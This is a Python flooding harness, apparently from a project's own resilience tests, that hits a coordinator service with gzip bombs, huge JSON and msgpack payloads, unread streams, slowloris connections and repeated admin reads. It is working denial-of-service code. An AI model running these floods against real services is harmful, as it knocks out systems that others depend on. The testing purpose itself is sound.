"""A program that floods a coordinator: ``python -m attacks.flooding KIND URL``.

It has what admits it, and sends what is valid or nearly so, as fast as it is read, or
as slowly as it is allowed to.  It is another process: it shares no interpreter.
"""

import asyncio
import base64
import gzip
import json
import os
import sys
from collections.abc import Awaitable, Callable
from contextlib import AsyncExitStack, suppress
from itertools import cycle
from pathlib import Path
from random import Random
from typing import Any
from urllib.parse import urlsplit

from aiohttp import ClientError, ClientSession, ClientWebSocketResponse

from attacks.lan import MAC, mac
from attacks.raw import TEXT, Wire, frame, post, request, upgrade, wire
from attacks.siege import CHAT, TOKEN, address
from gateway.serving import KEY, Pool
from originals.macfleet import RESULT, PeerTransport
from protocols.dispatch.recorded import SIGNERS
from protocols.tealenet.peers import heartbeat
from shoal.protocols.tealenet.codec.envelope import encode

MIB = 1 << 20
AT_ONCE = 4  # connections of a flood
STREAMS = 20  # that nobody reads
PIECE, PIECE_EVERY = 16 << 10, 0.02  # bytes of each, and seconds between two
IMAGES = 16_000  # in a chat
UNREAD = "unread"  # the model that answers them
SLOW = 60  # connections of peers that send or read hardly anything
FLEET_HUB = "hub"
READERS = 10  # keys that read lists
LISTS = ("/admin/jobs", "/admin/usage", "/admin/accounts", "/v1/receipts", "/v1/files")
REFUSED, RETRY_AFTER = 429, 1.0  # and seconds

SENT = "sent"  # a line for each input
BARE: Any = None  # where helpers of tests need no hub


def tell() -> None:
    print(SENT, flush=True)


async def requests(url: str, path: str, body: bytes, **headers: str) -> None:
    named = {"Authorization": f"Bearer {KEY}", "Content-Type": "application/json"}
    named |= {name.replace("_", "-"): text for name, text in headers.items()}
    async with ClientSession(headers=named) as session:
        while True:
            with suppress(ClientError):
                async with session.post(url + path, data=body) as response:
                    await response.read()
            tell()


async def chats(url: str) -> None:
    text = json.dumps({"role": "user", "content": "\n" * (7 * MIB)})
    body = f'{{"model":"nobody\'s","messages":[{text}]}}'.encode()
    await asyncio.gather(*(requests(url, CHAT, body) for _ in range(AT_ONCE)))


async def images(url: str) -> None:
    # Images do not compress.
    noise = base64.b64encode(Random(0).randbytes(525 * IMAGES)).decode()
    urls = (noise[start : start + 700] for start in range(0, len(noise), 700))
    each = [{"type": "image_url", "image_url": {"url": url}} for url in urls]
    parts = ",".join(map(json.dumps, each))
    body = f'{{"model":"m","messages":[{{"role":"user","content":[{parts}]}}]}}'
    await asyncio.gather(*(requests(url, CHAT, body.encode()) for _ in range(AT_ONCE)))


async def bombs(url: str) -> None:
    body = gzip.compress(bytes(512 * MIB), 1)
    await asyncio.gather(
        *(requests(url, CHAT, body, Content_Encoding="gzip") for _ in range(AT_ONCE))
    )


async def calls(url: str) -> None:
    items = b"\xdd" + (100_000).to_bytes(4) + b"\x92\x02\x01" * 100_000
    async with ClientSession() as session:
        bearer = {"Authorization": f"Bearer {KEY}"}
        async with session.ws_connect(url + "/v1/calls", headers=bearer) as socket:
            while True:
                await socket.send_bytes(items)
                tell()


async def providers(url: str) -> None:
    key = SIGNERS["A"].public_key.hex()
    register = {
        "type": "register",
        "provider_pubkey": key,
        "provider_type": "DESKTOP",
        "capabilities": ["TASK"],
    }
    filling = "[]," * (10 * MIB) + "1"
    beat = f'{{"type":"heartbeat","provider_pubkey":"{key}","more":[{filling}]}}'
    async with ClientSession() as session, session.ws_connect(url) as socket:
        await socket.send_str(json.dumps(register))
        await socket.receive()
        while True:
            await socket.send_str(beat)
            tell()


async def macs(url: str) -> None:
    """``url`` is that of TealeNet's peers: ``tcp://HOST:PORT``."""
    ports = {"tealenet": {"tcp": urlsplit(url).port or 0}}
    beat = json.loads(encode(heartbeat((), device_id=MAC.format(1))))
    beat["heartbeat"]["_0"]["loadedModels"] = ["x" * 30] * 90_000
    async with mac(Pool(url, BARE, BARE, ports=ports)) as peer:
        while not peer.over:
            await peer.send_messages(beat)
            tell()


async def fleet(url: str) -> None:
    count = 30 * MIB
    await results(url, b"\xdd" + count.to_bytes(4) + b"\xc0" * count)


async def mixed(url: str) -> None:
    """Send numbers of two widths in turn: each ends the search for more of its own."""
    count = 10 * MIB
    await results(url, b"\xdd" + (2 * count).to_bytes(4) + b"\xc0\xcc\x01" * count)


async def results(url: str, value: bytes) -> None:
    async with ClientSession() as session, session.get(url + "/healthz") as response:
        port = (await response.json())["direct"]["macfleet"]["transport"]
    connection = await PeerTransport("flood", TOKEN).connect(FLEET_HUB, port)
    result = b"\x84\xa7task_id\xa1x\xa2ok\xc3\xa5error\xc0\xa5value" + value
    while True:
        await connection.send(result, RESULT)
        tell()


async def unread(url: str) -> None:
    """Ask for streams and read none of them, while a worker writes all the time."""
    pool = Pool(url, BARE, BARE)
    asked = {
        "model": UNREAD,
        "stream": True,
        "messages": [{"role": "user", "content": "?"}],
    }
    body = json.dumps(asked).encode()
    chat = post(
        "Content-Type: application/json", f"Content-Length: {len(body)}", body=body
    )
    node = address(UNREAD, UNREAD, slots=str(STREAMS))
    open_tasks = set[int]()

    async def ask() -> None:
        while True:
            async with wire(pool, deaf=True) as bare:
                await bare.send(chat)
                await bare.head()
                tell()
                while not bare.writer.is_closing():
                    await asyncio.sleep(PIECE_EVERY)
                    await bare.send(b"\r\n")  # fails once the other end has hung up

    async def listen(socket: ClientWebSocketResponse) -> None:
        async for message in socket:
            task = json.loads(message.data)
            change = open_tasks.discard if "stop" in task else open_tasks.add
            change(task["id"])

    async def write(socket: ClientWebSocketResponse) -> None:
        while True:
            for task in [*open_tasks]:
                await socket.send_bytes(task.to_bytes(4, "big") + b"x" * PIECE)
            await asyncio.sleep(PIECE_EVERY)

    async with ClientSession() as session, session.ws_connect(url + node) as socket:
        await asyncio.gather(
            listen(socket), write(socket), *(ask() for _ in range(STREAMS))
        )


async def slow(url: str) -> None:
    """Stay below every limit of time, on many connections, in every way there is."""
    pool = Pool(url, BARE, BARE)
    head = request("POST /v1/chat/completions HTTP/1.1", "Content-Length: 10000")
    body = post("Content-Length: 10000", "Content-Type: application/json")
    giant = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X: " + b"x" * 60_000
    message = upgrade(address("slow", "nobody")) + frame(TEXT, b"", length=60_000)
    async with AsyncExitStack() as stack:
        ways = [(head[:20], b"x"), (body, b" "), (giant, b"x"), (message, b" ")]
        crowd: list[tuple[Wire, bytes]] = []
        for number in range(SLOW):
            beginning, each = ways[number % len(ways)]
            bare = await stack.enter_async_context(wire(pool, deaf=True))
            await bare.send(beginning)
            crowd.append((bare, each))
        while True:
            for bare, each in crowd:
                await bare.send(each)
            tell()
            await asyncio.sleep(0.05)


async def lists(url: str) -> None:
    """Read everybody's lists with several keys, each one after the other."""

    async def read(session: ClientSession, number: int) -> None:
        wanted = {"name": f"reader{os.getpid()}-{number}", "scope": "monitor"}
        bearer = {"Authorization": f"Bearer {KEY}"}
        async with session.post(
            url + "/admin/keys", json=wanted, headers=bearer
        ) as made:
            bearer = {"Authorization": f"Bearer {(await made.json())['key']}"}
        for path in cycle(LISTS):
            async with session.get(url + path, headers=bearer) as response:
                await response.read()
            tell()
            if response.status == REFUSED:
                await asyncio.sleep(RETRY_AFTER)

    async with ClientSession() as session:
        await asyncio.gather(*(read(session, number) for number in range(READERS)))


KINDS: dict[str, Callable[[str], Awaitable[None]]] = {
    each.__name__: each
    for each in (
        *(chats, images, bombs, calls, providers, macs, fleet, mixed),
        *(unread, slow, lists),
    )
}

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).parents[1]))
    asyncio.run(KINDS[sys.argv[1]](sys.argv[2]))  # type: ignore[arg-type]  # coroutines
